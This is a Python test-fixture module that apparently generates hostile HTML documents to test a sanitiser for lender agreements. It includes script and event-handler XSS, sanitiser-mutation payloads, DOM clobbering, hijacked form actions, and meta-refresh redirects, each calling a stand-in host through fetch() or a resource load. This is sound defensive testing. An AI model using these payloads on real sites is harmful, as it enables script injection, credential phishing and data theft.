"""Documents that try to do something. Each leaves a mark when it acts: `window.ran`, a request, a changed page."""

import random
from collections.abc import Callable, Mapping

from evidence.lender_agreements import a_clause, as_html

# Where a document may send a browser that acts on it.
ELSEWHERE = "http://e.example"
_OURS = ("id_accept", "id_device_holder", "lock-form", "step-form", "scrolled_to_end", "csrfmiddlewaretoken", "digest")
_RUN = f"(window.ran=window.ran||[]).push(1);fetch('{ELSEWHERE}/run')"


def _around(attack: str, chance: random.Random) -> str:
    """The attack among clauses, sometimes inside one of their tags."""
    first, second = as_html(a_clause(chance), chance), as_html(a_clause(chance), chance)
    opening = chance.choice(
        ("", "<table><tr><td>", "<ul><li>", "<svg>", "<math><mtext>", "<select><option>", "<p title='")
    )
    return f"<p>{first}</p>{opening if chance.random() < 0.4 else ''}{attack}<p>{second}</p>"


def _one_of(*attacks: str) -> Callable[[random.Random], str]:
    return lambda chance: _around(chance.choice(attacks), chance)


def _clobbering(chance: random.Random) -> str:
    name = chance.choice(_OURS)
    return _around(
        chance.choice(
            (
                f"<form id={name} name={name} action='{ELSEWHERE}/form'><input name={name}><input name=action></form>",
                f"<a id={name}></a><a id={name} name=href href='{ELSEWHERE}/a'>words</a>",
                f"<img name={name} id={name}><div id=main class='{name}' data-end-of-terms data-idle=/x>words</div>",
                f"<input form=step-form name={name}><button form=step-form formaction={ELSEWHERE}>Go</button>",
                "<div id=body></div><img name=cookie><img name=forms><form name=querySelector></form>",
            )
        ),
        chance,
    )


def _mutating(chance: random.Random) -> str:
    """What is harmless as it is written, and something else once a parser has written it again."""
    return (
        chance.choice(
            (
                f"<svg></p><style><a title='</style><img src=x onerror=\"{_RUN}\">'>",
                f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
                f"<noscript><p title='</noscript><img src=x onerror=\"{_RUN}\">'>",
                f"<xmp><p title='</xmp><img src=x onerror=\"{_RUN}\">'></xmp>",
                f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
                f"<textarea><p title='</textarea><svg onload=\"{_RUN}\">'>",
                f"<plaintext></plaintext><script>{_RUN}</script>",
                f"<select><template><style><!--</style><a rel='--></style></select><img src onerror={_RUN}>'>",
                f"<img alt='&lt;script&gt;{_RUN}&lt;/script&gt;'><input value='\"><script>{_RUN}</script>'>",
                f"<a href='{ELSEWHERE}/&lt;script&gt;{_RUN}&lt;/script&gt;'>link</a>",
            )
        )
        + f"<p>{a_clause(chance)}</p>"
    )


def _huge(chance: random.Random) -> str:
    piece, times = chance.choice(
        (
            ("<b>", 20_000),
            ("<div>", 3_000),
            ("<!--", 50_000),
            ("&amp;", 100_000),
            ("<a href='", 30_000),
            ("x" * 99, 5_000),
        )
    )
    return f"<p>{a_clause(chance)}</p>{piece * times}<script>{_RUN}</script>"


def _broken(chance: random.Random) -> str:
    whole = _around(chance.choice(("", f"<script>{_RUN}</script>", f"<img src=x onerror='{_RUN}'>")), chance)
    letters = list(whole)
    for _ in range(chance.randint(1, 12)):
        at = chance.randrange(len(letters))
        letters[at] = chance.choice(("<", ">", '"', "'", "\0", "\x01", "&", "<!", "</", "\ufffe", "]]>", ""))
    return "".join(letters)


ATTACKS: Mapping[str, Callable[[random.Random], str]] = {
    "script": _one_of(
        f"<script>{_RUN}</script>",
        f"<SCRIPT SRC='{ELSEWHERE}/s.js'></SCRIPT>",
        f"<scr<script>ipt>{_RUN}</script>",
        f"<script type=module>{_RUN}</script >",
    ),
    "event handlers": _one_of(
        f'<img src=x onerror="{_RUN}">',
        f'<body onload="{_RUN}">',
        f'<details open ontoggle="{_RUN}">words</details>',
        f'<input autofocus onfocus="{_RUN}">',
        f'<p/onpointerenter="{_RUN}"onanimationstart="{_RUN}">words</p>',
    ),
    "svg and math": _one_of(
        f'<svg onload="{_RUN}"><text>words</text></svg>',
        f"<svg><script>{_RUN}</script></svg>",
        f"<svg><use href='{ELSEWHERE}/a.svg#a'/><image href='{ELSEWHERE}/i.png'/></svg>",
        f'<svg><animate onbegin="{_RUN}" attributeName=x dur=1s></svg>',
        f'<math><maction xlink:href="javascript:{_RUN}">words</maction></math>',
    ),
    "style sheets": _one_of(
        "<style>body,.terms-box{background:red!important;color:lime}button{position:fixed;inset:0}</style>",
        f"<style>@import '{ELSEWHERE}/a.css';p{{background:url({ELSEWHERE}/b.png)}}</style>",
        f"<link rel=stylesheet href='{ELSEWHERE}/c.css'>",
        f"<p style='position:fixed;inset:0;background:url({ELSEWHERE}/d.png)'>words</p>",
        "<p class='notice notice--success button error-summary'>words</p>",
        "<font color=red size=7 face=x>words</font><center bgcolor=red>words</center>",
        "<table background=x bgcolor=red width=9000 height=9000><tr><td style='color:red'>words</table>",
    ),
    "forms": _one_of(
        f"<form action='{ELSEWHERE}/form'><input name=sin><button>Send</button></form>",
        f"</form></div></main><form action='{ELSEWHERE}/form'><input type=password name=password autofocus>",
        f"<button formaction='{ELSEWHERE}/form' form=step-form>Accept</button>",
    ),
    "meta refresh and base": _one_of(
        f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/meta'>",
        f"<base href='{ELSEWHERE}/' target=_top>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">"
        "<meta name=referrer content=unsafe-url>",
    ),
    "other documents": _one_of(
        f"<iframe src='{ELSEWHERE}/frame'></iframe>",
        f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
        f"<object data='{ELSEWHERE}/o'></object><embed src='{ELSEWHERE}/e'>",
        f"<video src='{ELSEWHERE}/v' autoplay></video><audio src='{ELSEWHERE}/a' autoplay></audio>",
        f"<img src='{ELSEWHERE}/i.png' srcset='{ELSEWHERE}/j.png 2x'>",
        f"<link rel=prefetch href='{ELSEWHERE}/p'><link rel=preconnect href='{ELSEWHERE}'><img lowsrc={ELSEWHERE}/l>",
    ),
    "links": _one_of(
        f'<a href="javascript:{_RUN}" autofocus>words</a>',
        f"<a href='data:text/html,<script>{_RUN}</script>' download>words</a>",
        f"<a href='{ELSEWHERE}' ping='{ELSEWHERE}/ping' target=_top>words</a><map><area href='{ELSEWHERE}'></map>",
    ),
    "clobbering of names": _clobbering,
    "mutation": _mutating,
    "huge": _huge,
    "broken": _broken,
}
